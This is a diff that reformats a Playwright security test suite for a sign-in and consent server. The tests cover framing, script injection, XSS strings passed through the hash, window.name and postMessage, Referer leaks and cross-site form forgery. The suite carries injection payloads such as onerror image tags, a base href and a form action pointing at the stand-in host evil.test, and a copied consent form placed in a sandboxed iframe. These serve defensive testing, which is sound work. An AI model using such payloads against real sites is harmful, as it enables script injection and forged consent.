@@ -1,8 +1,17 @@
 import { expect, test } from '../support/fixtures';
 import { listen } from '../support/listen';
-import { allow, enterPassword, expectAtApplication, expectTokensOf, signInAndAllow, signInQuietly, whoamiStatus } from '../support/pages';
+import {
+  allow,
+  enterPassword,
+  expectAtApplication,
+  expectTokensOf,
+  signInAndAllow,
+  signInQuietly,
+  whoamiStatus,
+} from '../support/pages';
 
-const html = (body: string) => `<!DOCTYPE html><html lang="en"><link rel="icon" href="data:,"><title>Elsewhere</title>${body}`;
+const html = (body: string) =>
+  `<!DOCTYPE html><html lang="en"><link rel="icon" href="data:,"><title>Elsewhere</title>${body}`;
 
 /** A site of somebody else's, which remembers the Referer of every request. */
 async function elsewhere(body: () => string) {
@@ -16,8 +25,16 @@ async function elsewhere(body: () => string) {
 
 test('no page can be framed by another site', async ({ page, guard, stack, app, clients }) => {
   const attempt = await app.begin(await clients.create());
-  const paths = [stack.origin, `${stack.origin}/login`, attempt.url, `${stack.origin}/nowhere`, `${stack.origin}/logout`];
-  const site = await elsewhere(() => paths.map((url) => `<iframe src="${url.replaceAll('&', '&amp;')}"></iframe>`).join(''));
+  const paths = [
+    stack.origin,
+    `${stack.origin}/login`,
+    attempt.url,
+    `${stack.origin}/nowhere`,
+    `${stack.origin}/logout`,
+  ];
+  const site = await elsewhere(() =>
+    paths.map((url) => `<iframe src="${url.replaceAll('&', '&amp;')}"></iframe>`).join(''),
+  );
   guard.allowOrigin(site.origin);
   guard.allowConsole(/frame-ancestors|X-Frame-Options|Refused to display|Framing/);
   await page.goto(site.origin);
@@ -32,8 +49,12 @@ test('a script that found its way into a page does not run', async ({ page, guar
   guard.allowConsole(/Content Security Policy|violates the following/);
   await page.route(`${stack.origin}/login`, async (route) => {
     const response = await route.fetch();
-    const injected = '<script>window.injected = 1</script><img src="/x.png" onerror="window.injected = 2"><base href="https://evil.test/">';
-    const body = (await response.text()).replace('</body>', `${injected}<form action="https://evil.test/"><button id="evil">x</button></form></body>`);
+    const injected =
+      '<script>window.injected = 1</script><img src="/x.png" onerror="window.injected = 2"><base href="https://evil.test/">';
+    const body = (await response.text()).replace(
+      '</body>',
+      `${injected}<form action="https://evil.test/"><button id="evil">x</button></form></body>`,
+    );
     await route.fulfill({ response, body });
   });
   await page.goto(`${stack.origin}/login`);
@@ -46,18 +67,29 @@ test('a script that found its way into a page does not run', async ({ page, guar
 
 test('what stands behind the hash, in window.name or in a message is not read', async ({ page, guard, stack }) => {
   const site = await elsewhere(
-    () => `<script>window.name = '<img src=x onerror=alert(1)>'; location = '${stack.origin}/login#<img src=x onerror=alert(1)>';</script>`,
+    () =>
+      `<script>window.name = '<img src=x onerror=alert(1)>'; location = '${stack.origin}/login#<img src=x onerror=alert(1)>';</script>`,
   );
   guard.allowOrigin(site.origin);
   await page.goto(site.origin);
   await expect(page.locator('input[name=password]')).toBeVisible();
-  await page.evaluate(() => window.postMessage({ type: 'login', html: '<img src=x onerror=alert(1)>', to: 'https://evil.test' }, '*'));
+  await page.evaluate(() =>
+    window.postMessage({ type: 'login', html: '<img src=x onerror=alert(1)>', to: 'https://evil.test' }, '*'),
+  );
   expect(await page.locator('img[src=x]').count()).toBe(0);
   expect(new URL(page.url()).pathname).toBe('/login');
   await site.close();
 });
 
-test('no challenge leaves in a Referer, by a link or by the way back to the application', async ({ page, context, guard, app, clients, people, stack }) => {
+test('no challenge leaves in a Referer, by a link or by the way back to the application', async ({
+  page,
+  context,
+  guard,
+  app,
+  clients,
+  people,
+  stack,
+}) => {
   const site = await elsewhere(() => '<h1>Terms</h1>');
   guard.allowOrigin(site.origin);
   const [client, person] = await Promise.all([clients.create({ tos_uri: `${site.origin}/terms` }), people.create()]);
@@ -76,7 +108,13 @@ test('no challenge leaves in a Referer, by a link or by the way back to the appl
   await site.close();
 });
 
-test('Back after allowing shows no form that could be sent again, and Reload repeats nothing', async ({ page, app, clients, people, stack }) => {
+test('Back after allowing shows no form that could be sent again, and Reload repeats nothing', async ({
+  page,
+  app,
+  clients,
+  people,
+  stack,
+}) => {
   const [client, person] = await Promise.all([clients.create(), people.create()]);
   const attempt = await app.begin(client);
   await signInAndAllow(page, app, attempt, person);
@@ -95,7 +133,10 @@ test('Back after signing out shows nothing of the person', async ({ page, contex
   await signInQuietly(context, stack, person);
   await page.goto(`${stack.origin}/settings`);
   await page.goto(`${stack.origin}/logout`);
-  await page.locator('button', { hasText: /sign out/i }).first().click();
+  await page
+    .locator('button', { hasText: /sign out/i })
+    .first()
+    .click();
   await expect(page).toHaveURL(`${stack.origin}/signed-out`);
   expect(await whoamiStatus(context, stack)).toBe(401);
   for (let steps = 0; steps < 3; steps += 1) {
@@ -104,7 +145,14 @@ test('Back after signing out shows nothing of the person', async ({ page, contex
   }
 });
 
-test('a double click on Allow gives the application one code', async ({ page, context, app, clients, people, stack }) => {
+test('a double click on Allow gives the application one code', async ({
+  page,
+  context,
+  app,
+  clients,
+  people,
+  stack,
+}) => {
   const [client, person] = await Promise.all([clients.create(), people.create()]);
   await signInQuietly(context, stack, person);
   const attempt = await app.begin(client);
@@ -115,12 +163,22 @@ test('a double click on Allow gives the application one code', async ({ page, co
   expect(app.callbacksOf(attempt)).toHaveLength(1);
 });
 
-test('a form on another site signs nobody out and allows nothing, whatever it knows', async ({ page, context, guard, app, clients, people, stack }) => {
+test('a form on another site signs nobody out and allows nothing, whatever it knows', async ({
+  page,
+  context,
+  guard,
+  app,
+  clients,
+  people,
+  stack,
+}) => {
   const [client, person] = await Promise.all([clients.create(), people.create()]);
   await signInQuietly(context, stack, person);
   const attempt = await app.begin(client);
   await page.goto(attempt.url);
-  const form = await page.locator('form:has(button[name=decision])').evaluate((element: HTMLFormElement) => element.outerHTML);
+  const form = await page
+    .locator('form:has(button[name=decision])')
+    .evaluate((element: HTMLFormElement) => element.outerHTML);
   const stolen = form.replaceAll('action="/consent"', `action="${stack.origin}/consent"`);
   const sandboxed = `<iframe sandbox="allow-forms allow-scripts allow-top-navigation" srcdoc="${stolen.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replace('method=', 'target=_top method=')}"></iframe>`;
   let body = stolen;
